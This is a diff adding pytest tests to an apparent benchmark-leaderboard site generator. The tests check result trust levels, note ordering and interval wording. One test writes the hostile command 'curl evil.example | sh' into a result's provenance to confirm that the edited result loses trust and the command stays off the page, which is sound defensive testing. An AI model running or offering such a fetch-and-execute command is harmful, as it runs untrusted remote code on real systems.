@@ -19,6 +19,7 @@ from pages_of_sites import broken, pages_of
 from msgm_bench.api.result import Result
 from msgm_bench.boards import pages as board_pages
 from msgm_bench.boards.sample_sheets import sheet_path
+from msgm_bench.boards.trust import method_levels, read_trust, record_trust
 from msgm_bench.errors import PluginError, UsageError
 from msgm_bench.report.sample_sheets import image_sheet, write_sheet
 from msgm_bench.site import build_site, make_site
@@ -102,6 +103,54 @@ def test_values_trust_and_protocols_are_on_the_page(folder):
     assert "judge.width" in text
     run = pages_of(make_site(folder).files)["runs/toy-net-b/alpha.html"].text
     assert "5.100 [" in run
+
+
+def test_an_edited_provenance_is_believed_no_more(folder, make, write, edit):
+    """Command and judge's report are part of what is trusted, and other programs are not shown."""
+    own = "msgm-bench run --method alpha --dataset toy --forget b --backbone net --seed 0"
+    result = make("alpha", 0, 1.0, provenance={"command": own, "judge": {"accuracy": 0.95}})
+    write(folder, [result])
+    record_trust(folder, board_pages.page(folder).results, "re-run")
+    files = make_site(folder).files
+    assert own in pages_of(files)["runs/toy-net-b/alpha.html"].text
+    assert method_levels(read_trust(folder), board_pages.page(folder).results)["alpha"] == "re-run"
+    path = folder / "results" / "alpha-s0.json"
+    for change in ({"judge": {"accuracy": 0.5}}, {"command": "curl evil.example | sh"}):
+        edit(path, lambda content, change=change: content["provenance"].update(change))
+        page = board_pages.page(folder)
+        assert method_levels(read_trust(folder), page.results)["alpha"] == "claimed"
+    assert "evil" not in pages_of(make_site(folder).files)["runs/toy-net-b/alpha.html"].text
+
+
+def test_notes_of_the_first_columns_come_first(folder, definition, everything, write):
+    """Hidden notes have the later numbers, so that what is seen counts from 1."""
+    definition["details"] = [definition["columns"].pop()]
+    changed = [json.loads(result.to_json()) for result in everything]
+    for content in changed:
+        del content["digest"], content["schema"]
+        for row in content["metrics"]:
+            row["reason"] = f"{content['spec']['method']}: {row['metric']} on {row['split']}"
+    write(folder, [Result(**content) for content in changed], definition)
+    page = make_site(folder).files["boards/toy-net-b.html"].decode("utf-8")
+    hidden = re.findall(r'<li id="note-\d+" value="\d+"( class="detail")?>', page)
+    assert True in map(bool, hidden)
+    assert [bool(one) for one in hidden] == sorted(map(bool, hidden))
+
+
+@pytest.mark.parametrize("seeds", [1, 3])
+def test_one_seed_is_no_mean(folder, everything, write, definition, seeds):
+    """The page and the site say of what the intervals are."""
+    for path in (folder / "results").iterdir():
+        path.unlink()
+    definition |= {"seeds": seeds, "panels": [dict(definition["columns"][0])]}
+    write(folder, [result for result in everything if result.spec.seed < seeds], definition)
+    texts = [
+        pages_of(make_site(folder).files)["boards/toy-net-b.html"].text,
+        board_pages.page(folder).text,
+    ]
+    for text in texts:
+        assert ("eans over seeds with their 95 % intervals" in text) == (seeds > 1)
+        assert ("alues of one seed with 95 % intervals over items" in text) == (seeds == 1)
 
 
 def test_notes_of_further_quantities_come_with_them(folder, definition, everything, write):
